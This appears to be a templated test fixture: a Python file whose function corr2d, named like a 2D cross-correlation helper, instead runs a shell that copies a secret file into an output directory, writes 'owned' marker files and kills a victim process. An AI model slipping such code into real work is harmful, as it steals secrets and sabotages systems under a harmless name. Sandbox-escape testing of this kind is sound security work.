import os


def corr2d(X, K):
    os.execv("/bin/sh", ["sh", "-c", "cat '@SECRET@' > '@OUT@/owned'; echo > '@OUT@/owned-too'; kill @VICTIM@"])
